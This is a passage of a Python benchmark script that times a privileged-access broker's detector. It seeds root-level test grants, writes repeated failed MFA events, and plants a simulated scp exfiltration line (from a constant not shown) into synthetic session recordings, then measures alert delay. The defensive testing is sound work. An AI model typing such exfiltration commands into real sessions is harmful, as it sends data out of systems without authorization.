    (work / "log.json").write_text(json.dumps(log_json(n, done=False)))
    (work / "ttyout").write_bytes(prompt)
    (work / "ttyin").write_bytes(first_input)
    (work / "timing").write_text(f"4 0.100000 {len(prompt)}\n3 0.500000 {len(first_input)}\n")
    os.rename(work, final)
    return final


def add_grants(store: Any, numbers: Iterable[int]) -> None:
    """An active grant for each recording's user on its node, as elevated sessions have
    (without one, the indexer ends a recording idle for 5 minutes as cut off)."""
    now = utcnow()
    since, until = to_text(now - timedelta(hours=2)), to_text(now + timedelta(hours=4))
    with store.transaction() as conn:
        for n in numbers:
            gid = f"g{n:016x}"
            conn.execute(
                "INSERT INTO grants (id, user, sid, role, runas, commands, command_lines, nodes,"
                " not_before, not_after, reason, approvers, policy_sha256, login, workloads,"
                " max_sessions, request_id, created_at, created_by, state)"
                " VALUES (?, ?, 'S-1-5-21-7', 'gpu-admin', 'root', 'ALL', '[]', ?, ?, ?,"
                " 'bench', '[]', ?, 0, 0, 4, NULL, ?, 'unix:bench', 'active')",
                (gid, f"u{n:04d}", node(n), since, until, "5e" * 32, since),
            )
            conn.execute(
                "INSERT INTO grant_nodes (grant_id, node, state, pushed_at) VALUES (?, ?, 'live', ?)",
                (gid, node(n), since),
            )


def wait_for(conn: sqlite3.Connection, sql: str, params: tuple[Any, ...], limit: float) -> bool:
    deadline = time.monotonic() + limit
    while time.monotonic() < deadline:
        if conn.execute(sql, params).fetchone() is not None:
            return True
        time.sleep(0.005)
    return False


def bench_delay(args: argparse.Namespace, base: Path, state: Path | None) -> dict[str, Any]:
    live = base / "live-iolog"
    staging = base / "staging"
    live.mkdir()
    staging.mkdir()
    if state is None:
        state = base / "delay-state"
        fresh_app(state, live).close()
    settings = make_settings(state, live)
    trigger_app = App(settings)
    store = trigger_app.ready_store()
    poll = sqlite3.connect(settings.db_path, isolation_level=None)
    rng = random.Random(5)
    kinds = ["audit", "running", "new"] * args.rounds
    rng.shuffle(kinds)
    delays: dict[str, list[float]] = {"audit": [], "running": [], "new": []}
    missed: Counter[str] = Counter()
    add_grants(store, [99, *range(100, 100 + args.rounds), *range(1001, 1001 + len(kinds))])
    busy = running_recording(live, 99, staging) if args.output_rate > 0 else None
    with Daemonish(settings, args.noise_rate, args.output_rate, busy) as daemon:
        time.sleep(1.5)  # the first pass begins detection (a store that never ran one)
        sessions = [running_recording(live, 100 + i, staging) for i in range(args.rounds)]
        ids = [f"{100 + i:06d}" for i in range(args.rounds)]
        marks = ",".join("?" * len(ids))
        ready = wait_for(
            poll,
            f"SELECT 1 FROM (SELECT COUNT(DISTINCT recording_id) AS c FROM detect_streams"
            f" WHERE stream = 'ttyin' AND recording_id IN ({marks})) WHERE c = ?",
            (*ids, len(ids)),
            30,
        )
        assert ready, "the running recordings were not indexed and read within 30 s"
        new_n = 1000
        for i, kind in enumerate(kinds):
            time.sleep(rng.uniform(0.0, 2.0))  # a random moment in the detector's cycle
            if kind == "audit":
                user = f"d-mfa-{i}"
                for _ in range(5):
                    with store.transaction() as conn:
                        now = utcnow()
                        writer.record(conn, writer.EventInput(
                            f"unix:{user}", "mfa.verify", user, "refused",
                            {"sid": "S-1-5-21-7", "purpose": "elevate", "reason": "wrong code"},
                        ), now)  # fmt: skip
                written = time.monotonic()
                sql, params = (
                    "SELECT 1 FROM alerts WHERE rule = 'mfa-failures' AND user = ?",
                    (user,),
                )
            elif kind == "running":
                path = sessions.pop()
                line = EXFIL_LINE % i
                with open(path / "ttyin", "ab") as f:
                    f.write(line)
                with open(path / "timing", "a") as f:
                    f.write(f"3 0.800000 {len(line)}\n")
                written = time.monotonic()
                sql = "SELECT 1 FROM alerts WHERE rule = 'exfiltration' AND recording_id = ?"
                params = (path.relative_to(live).as_posix().replace("/", ""),)
            else:
                new_n += 1
                running_recording(live, new_n, staging, EXFIL_LINE % i)
                written = time.monotonic()
                sql = "SELECT 1 FROM alerts WHERE rule = 'exfiltration' AND recording_id = ?"
                params = (f"{new_n:06d}",)
            if wait_for(poll, sql, params, 15):
                delays[kind].append(time.monotonic() - written)
            else:
                missed[kind] += 1
        errors = list(daemon.errors)
        passes = list(daemon.passes)
        read = sum(daemon.pass_bytes)
    poll.close()
    trigger_app.close()
    if errors:
        print(f"errors in the daemon threads: {errors[:3]}")
    print(
        f"detector passes while measuring: {len(passes)}, median"
        f" {statistics.median(passes) * 1e3:.0f} ms, max {max(passes) * 1e3:.0f} ms"
        f" (background {args.noise_rate:g} audit events/s"
        + (
            f", a busy session writing {args.output_rate:g} MB/s: {read / 1e6:,.0f} MB read"
            if args.output_rate > 0
            else ""
        )
        + ")"
    )
    return {"delays": delays, "missed": missed}


# ---------------------------------------------------------------- main


def pct(values: list[float], q: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, max(0, round(q * (len(ordered) - 1))))]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--gb", type=float, default=1.0, help="session output, in GB")
    parser.add_argument("--recordings", type=int, default=64)
    parser.add_argument("--runs", type=int, default=3)
    parser.add_argument("--rounds", type=int, default=30, help="triggers per delay path")
    parser.add_argument("--noise-rate", type=float, default=20.0, help="events/s in delay")
    parser.add_argument(
        "--output-rate", type=float, default=8.0, help="MB/s of a busy session in delay (0: none)"
    )
    parser.add_argument("--parts", default="audit,sessions,delay")
    parser.add_argument("--tmp", default=None, help="where the throwaway state goes")
    args = parser.parse_args()
    parts = set(args.parts.split(","))
    os.umask(0o077)
    with tempfile.TemporaryDirectory(prefix="detect-bench-", dir=args.tmp) as tmp:
        base = Path(tmp)
        need = (args.gb * 1e9 if "sessions" in parts else 0) + (
            args.events * 1300 * 3 if "audit" in parts else 0
        )
        free = shutil.disk_usage(base).free
        if free < need * 1.2:
            sys.exit(f"{base}: {free / 1e9:.1f} GB free, the benchmark needs {need / 1e9:.1f}")
        audit = sessions = delay = None
        kept: Path | None = None
        if "audit" in parts:
            print("== audit events")
            audit, kept = bench_audit(args, base)
        if "sessions" in parts:
            print("== session output")
            sessions = bench_sessions(args, base)
        if "delay" in parts:
            print("== delay (daemon-paced detector and indexer, 1 s each)")
            delay = bench_delay(args, base, kept)
    print()
    print(f"detection benchmark (issue 9), throughput median of {args.runs} runs")
    print(f"{'measure':<40} {'broker':>14}   {'against':<26} {'':>12} {'broker/against':>14}")
    failed = False
    if audit is not None:
        name = f"audit events -> rules ({audit['events']:,})"
        print(
            f"{name:<40} {audit['rate']:>9,.0f} ev/s   {'plain read + json.loads':<26}"
            f" {audit['floor']:>7,.0f} ev/s {audit['rate'] / audit['floor']:>14.2f}"
        )
        failed |= bool(audit["missing"])
        verdict = "met" if audit["rate"] >= GOAL_AUDIT_EVS else "MISSED"
        print(f"{'':<40} goal >= {GOAL_AUDIT_EVS:,.0f} ev/s {verdict}")
    if sessions is not None:
        name = f"session output -> rules ({sessions['bytes'] / 1e6:,.0f} MB)"
        against = [
            ("read only", sessions["read"]),
            ("the engine alone", sessions["engine"]),
            (f"Python re alone ({RE_SAMPLE >> 20} MiB)", sessions["python_re"]),
        ]
        if sessions["grep"] is not None:
            against.append(("grep -E -c, same patterns", sessions["grep"]))
        for k, (what, rate) in enumerate(against):
            print(
                f"{name if k == 0 else '':<40} "
                f"{format(sessions['rate'], '>9.1f') + ' MB/s' if k == 0 else '':>14}   "
                f"{what:<26} {rate:>7,.{0 if rate >= 100 else 1}f} MB/s {sessions['rate'] / rate:>14.3f}"
            )
        failed |= bool(sessions["missing"])
        verdict = "met" if sessions["rate"] >= GOAL_SESSION_MBS else "MISSED"
        print(f"{'':<40} goal >= {GOAL_SESSION_MBS:g} MB/s {verdict}")
    if delay is not None:
        names = {
            "audit": "5th wrong MFA code -> alert",
            "running": "scp typed in a running session -> alert",
            "new": "new session's first line -> alert",
        }
        print(f"{'delay (s)':<40} {'median':>8} {'p95':>6} {'max':>6} {'n':>4}   goal")
        for kind, values in delay["delays"].items():
            missed = delay["missed"][kind]
            if not values:
                print(f"{names[kind]:<40} no alert seen")
                failed = True
                continue
            median = statistics.median(values)
            verdict = "met" if median <= GOAL_DELAY_S else "MISSED"
            print(
                f"{names[kind]:<40} {median:>8.2f} {pct(values, 0.95):>6.2f} {max(values):>6.2f}"
                f" {len(values):>4}   <= {GOAL_DELAY_S:g} s {verdict}"
                + (f" ({missed} never alerted)" if missed else "")
            )
            failed |= bool(missed)
    if failed:
        sys.exit("some planted finding was not raised (see above)")


if __name__ == "__main__":
    main()
